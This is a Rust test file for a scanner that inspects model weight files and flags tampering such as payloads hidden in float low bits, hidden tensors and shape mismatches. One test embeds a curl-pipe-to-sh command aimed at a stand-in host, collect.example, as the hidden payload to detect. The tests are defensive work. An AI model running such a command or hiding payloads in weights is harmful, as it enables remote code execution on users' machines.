//! Weights made number by number, and what is said of them.

use std::collections::BTreeMap;
use std::sync::Arc;

use lazaret_core::{Hint, Limits, Severity, Source};
use lazaret_input::MemorySource;
use proptest::prelude::*;

use super::{Kind, Statistics};
use crate::{Folder, Report, Terms, look_by};

/// Files beside the one looked at.
#[derive(Default)]
struct Beside(BTreeMap<String, Vec<u8>>);

impl Folder for Beside {
    fn open(&self, path: &str) -> Option<(Arc<dyn Source>, u64)> {
        let bytes = self.0.get(path)?.clone();
        let len = bytes.len() as u64;
        Some((Arc::new(MemorySource::new(bytes, Hint::default())), len))
    }
}

fn scan(bytes: Vec<u8>, name: &str, beside: &Beside, statistics: Statistics) -> Report {
    let len = bytes.len() as u64;
    let source = Arc::new(MemorySource::new(bytes, Hint::default()));
    look_by(source, len, name, beside, &Limits::default(), &Terms { statistics, ..Terms::default() })
}

fn ids(report: &Report) -> Vec<&'static str> {
    report.findings.iter().map(|finding| finding.id).collect()
}

/// Numbers like trained ones: sums of six even ones, from a generator of our own.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u32 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        u32::try_from(self.0 >> 32).unwrap()
    }

    fn normal(&mut self) -> f32 {
        let mut sum = 0.0_f32;
        for _ in 0..6 {
            let [low, high, ..] = self.next().to_be_bytes();
            sum += f32::from(u16::from_be_bytes([low, high])) / 65_536.0 - 0.5;
        }
        // A factor that no power of two divides fills the low bits.
        let fine = f32::from(u16::try_from(self.next() >> 16).unwrap()) * 1e-7;
        (sum + fine) * 0.031_37
    }

    fn layer(&mut self, count: usize) -> Vec<f32> {
        (0..count).map(|_| self.normal()).collect()
    }
}

fn bytes_of(values: &[f32]) -> Vec<u8> {
    values.iter().flat_map(|value| value.to_le_bytes()).collect()
}

/// A safetensors file.
fn file(tensors: &[(&str, &str, &[u64], Vec<u8>)]) -> Vec<u8> {
    let (mut header, mut data) = (serde_json::Map::new(), Vec::new());
    for (name, dtype, shape, bytes) in tensors {
        let end = data.len() + bytes.len();
        let entry = serde_json::json!({ "dtype": dtype, "shape": shape, "data_offsets": [data.len(), end] });
        header.insert((*name).to_owned(), entry);
        data.extend(bytes);
    }
    let header = serde_json::Value::Object(header).to_string();
    [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), &data].concat()
}

fn one(values: &[f32], columns: u64) -> Vec<u8> {
    file(&[("w", "F32", &[values.len() as u64 / columns, columns], bytes_of(values))])
}

fn said(values: &[f32], columns: u64, statistics: Statistics) -> Vec<&'static str> {
    ids(&scan(one(values, columns), "w.safetensors", &Beside::default(), statistics))
}

#[test]
fn honest_numbers_are_quiet_and_nothing_is_read_unless_asked() {
    let honest = Random(1).layer(32_768);
    assert_eq!(said(&honest, 64, Statistics::All), [""; 0]);
    let mut halved: Vec<f32> = honest.iter().map(|v| f32::from_bits(v.to_bits() & 0xffff_0000)).collect();
    assert_eq!(said(&halved, 64, Statistics::All), [""; 0]);
    halved.iter_mut().step_by(3).for_each(|value| *value = 0.0);
    assert_eq!(said(&halved, 64, Statistics::All), [""; 0]);
    let odd: Vec<f32> = (0..4096).map(|n| f32::from_bits(n * 1_048_576)).collect();
    assert_eq!(said(&odd, 64, Statistics::Off), [""; 0]);
    assert_eq!(said(&odd, 64, Statistics::Measured), ["weights.not-numbers"]);
}

#[test]
fn payloads_in_low_bits_are_found_at_every_depth() {
    let script = b"#!/bin/sh\ncurl -s http://collect.example/x | sh # and some more text, as scripts have\n"
        .repeat(40);
    for bits in [1, 2, 4, 8] {
        let mut values = Random(2).layer(65_536);
        let pieces = script
            .iter()
            .flat_map(|byte| (0..8 / bits).map(move |n| u32::from(*byte) >> (8 - bits * (n + 1))));
        for (value, piece) in values.iter_mut().zip(pieces) {
            let mask = (1 << bits) - 1;
            *value = f32::from_bits(value.to_bits() & !mask | piece & mask);
        }
        let report = scan(one(&values, 64), "w.safetensors", &Beside::default(), Statistics::Measured);
        assert_eq!(ids(&report), ["weights.embedded-payload"], "{bits}");
        let finding = &report.findings[0];
        assert_eq!(finding.severity, Severity::High);
        assert!(finding.message.contains(&format!("in the low {bits} bits")), "{}", finding.message);
        assert_eq!(finding.at.as_str(), "w.safetensors!w");
    }
}

#[test]
fn replaced_bytes_and_bits_below_empty_ones_are_found_without_a_mark() {
    let mut random = Random(3);
    let values = random.layer(32_768);
    let replaced: Vec<f32> =
        values.iter().map(|v| f32::from_bits(v.to_bits() & 0xff00_0000 | random.next() >> 8)).collect();
    assert!(said(&replaced, 64, Statistics::Measured).contains(&"weights.replaced-bytes"));
    let hole: Vec<f32> =
        values.iter().map(|v| f32::from_bits(v.to_bits() & 0xffff_0000 | random.next() >> 28)).collect();
    assert_eq!(said(&hole, 64, Statistics::All), ["weights.embedded-payload"]);
    let part = |n: usize, v: &f32| if n < 16_384 { f32::from_bits(v.to_bits() & 0xffff_0000) } else { *v };
    let mixed: Vec<f32> = values.iter().enumerate().map(|(n, v)| part(n, v)).collect();
    assert_eq!(said(&mixed, 64, Statistics::All), ["weights.mixed-precision"]);
    assert_eq!(said(&mixed, 64, Statistics::Measured), [""; 0]);
}

#[test]
fn rows_and_layers_that_stand_out_are_found() {
    let mut table = Random(4).layer(1024 * 32);
    table[32 * 700..32 * 701].iter_mut().for_each(|value| *value *= 20.0);
    let report = scan(one(&table, 32), "w.safetensors", &Beside::default(), Statistics::Measured);
    assert_eq!(ids(&report), ["weights.outlier-row"]);
    assert!(report.findings[0].message.starts_with("row 700 of tensor `w` has a norm"));
    let mut random = Random(5);
    let layers = |zero: f32, large: f32, random: &mut Random| {
        let names: Vec<String> = (0..8).map(|n| format!("layers.{n}.weight")).collect();
        let times = |n: usize| [1.0, 1.0, zero, 1.0, 1.0, large, 1.0, 1.0][n];
        let of = |n: usize, random: &mut Random| {
            random.layer(4096).iter().map(|value| value * times(n)).collect::<Vec<f32>>()
        };
        let shape: &[u64] = &[64, 64];
        let tensors: Vec<_> = names
            .iter()
            .enumerate()
            .map(|(n, name)| (name.as_str(), "F32", shape, bytes_of(&of(n, random))))
            .collect();
        scan(file(&tensors), "m.safetensors", &Beside::default(), Statistics::Measured)
    };
    assert_eq!(ids(&layers(1.0, 1.0, &mut random)), [""; 0]);
    let found = layers(0.0, 8.0, &mut random);
    let places: Vec<&str> = found.findings.iter().map(|finding| finding.at.as_str()).collect();
    assert_eq!(places, ["m.safetensors!layers.2.weight", "m.safetensors!layers.5.weight"]);
}

const CONFIG: &str = r#"{"model_type":"bert","num_hidden_layers":2,"hidden_size":4,"vocab_size":8}"#;

#[test]
fn tensors_are_held_against_the_configuration_beside_them() {
    let f32s = |count: usize| bytes_of(&Random(6).layer(count));
    let base = |extra: (&'static str, &'static [u64], usize)| {
        let (name, shape, count) = extra;
        let tensors: Vec<(&str, &str, &[u64], Vec<u8>)> = vec![
            ("bert.embeddings.word_embeddings.weight", "F32", &[8, 4], f32s(32)),
            ("bert.encoder.layer.0.output.dense.weight", "F32", &[4, 4], f32s(16)),
            ("bert.encoder.layer.1.output.dense.weight", "F32", &[4, 4], f32s(16)),
            (name, "F32", shape, f32s(count)),
        ];
        let beside = Beside([("config.json".to_owned(), CONFIG.as_bytes().to_vec())].into());
        ids(&scan(file(&tensors), "model.safetensors", &beside, Statistics::Off))
    };
    assert_eq!(base(("classifier.weight", &[2, 4], 8)), [""; 0]);
    assert_eq!(
        base(("bert.encoder.layer.2.output.dense.weight", &[4, 4], 16)),
        ["weights.architecture-mismatch"]
    );
    assert_eq!(base(("bert.encoder.layer.1.blob", &[4, 4], 16)), ["weights.hidden-tensor"]);
    assert_eq!(base(("extra.word_embeddings.weight", &[9, 4], 36)), ["weights.architecture-mismatch"]);
}

#[test]
fn an_index_is_held_against_its_files() {
    let shard = file(&[("a", "F32", &[1], vec![0; 4]), ("b", "F32", &[1], vec![0; 4])]);
    let index = |map: &str| {
        let beside = Beside([("s.safetensors".to_owned(), shard.clone())].into());
        let text = format!(r#"{{"weight_map":{{{map}}}}}"#);
        ids(&scan(text.into_bytes(), "model.safetensors.index.json", &beside, Statistics::Off))
    };
    assert_eq!(index(r#""a":"s.safetensors","b":"s.safetensors""#), [""; 0]);
    assert_eq!(index(r#""a":"s.safetensors""#), ["weights.hidden-tensor"]);
    let ghost = r#""a":"s.safetensors","b":"s.safetensors","c":"s.safetensors""#;
    assert_eq!(index(ghost), ["weights.index-mismatch"]);
}

/// A pickle of torch from before zip archives: four pickles, the keys of the storages, the storages.
fn legacy(shape: u8, stored: u64, data: &[u8]) -> Vec<u8> {
    let mut bytes = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}.".to_vec();
    bytes.extend(
        b"\x80\x02}X\x01\0\0\0wctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\n",
    );
    bytes.extend(b"X\x01\0\0\x007X\x03\0\0\0cpuK");
    bytes.extend([
        u8::try_from(stored).unwrap(),
        b't',
        b'Q',
        b'K',
        0,
        b'K',
        shape,
        0x85,
        b'K',
        1,
        0x85,
        0x89,
    ]);
    bytes.extend(b"NtRs.\x80\x02]X\x01\0\0\x007a.");
    bytes.extend(stored.to_le_bytes());
    bytes.extend(data);
    bytes
}

#[test]
fn a_tensor_of_torch_reaches_no_further_than_its_storage() {
    let look = |bytes, statistics| scan(bytes, "m.pt", &Beside::default(), statistics);
    let values = bytes_of(&Random(7).layer(100));
    let report = look(legacy(100, 100, &values), Statistics::All);
    assert_eq!((report.format.0, ids(&report)), ("torch-legacy", vec![]));
    let report = look(legacy(101, 100, &values), Statistics::Off);
    assert_eq!(ids(&report), ["weights.shape-mismatch"]);
    assert_eq!(report.findings[0].message, "tensor `w`: it reaches to byte 404 of a storage of 400");
    // What is no number of any weight is told under the name that the pickle gives it.
    let odd = |n: u32| f32::from_bits(n.wrapping_mul(987_654_321)).to_le_bytes();
    let odd: Vec<u8> = (0..250).flat_map(odd).collect();
    let report = look(legacy(250, 250, &odd), Statistics::Measured);
    assert_eq!((ids(&report), report.findings[0].at.as_str()), (vec!["weights.not-numbers"], "m.pt!w"));
}

#[test]
fn tensors_that_share_their_bytes_are_not_read_for_ever() {
    let part = crate::part::Part::file(
        Arc::new(MemorySource::new(bytes_of(&Random(8).layer(64)), Hint::default())),
        256,
        "m",
    );
    let (limits, folder) = (Limits::default(), crate::NoFolder);
    let mut looking = crate::look::Looking::new(&limits, &folder);
    looking.statistics = Statistics::Measured;
    let mut tensors = super::Tensors::new(&looking);
    let data = super::Data { part: Arc::new(part.clone()), from: 0, len: 256 };
    for _ in 0..6 {
        let (kind, shape) = (Kind::F32, vec![64]);
        tensors.push(super::Tensor { name: String::new(), kind, shape, data: Some(data.clone()) });
    }
    super::judge(&tensors, &part, &mut looking);
    let report = looking.report(crate::look::UNKNOWN);
    assert_eq!((ids(&report), report.inspected), (vec!["format.malformed"], crate::Inspected::Part));
}

proptest! {
    #[test]
    fn any_numbers_end(bytes in proptest::collection::vec(any::<u8>(), 0..4096), kind in 0_usize..8) {
        let (dtype, width) =
            [("F32", 4), ("F64", 8), ("F16", 2), ("BF16", 2), ("F8_E4M3", 1), ("F8_E5M2", 1), ("I64", 8), ("U16", 2)][kind];
        let count = bytes.len() / width;
        let tensors = [("w", dtype, &[count as u64][..], bytes[..count * width].to_vec())];
        scan(file(&tensors), "w.safetensors", &Beside::default(), Statistics::All);
    }
}
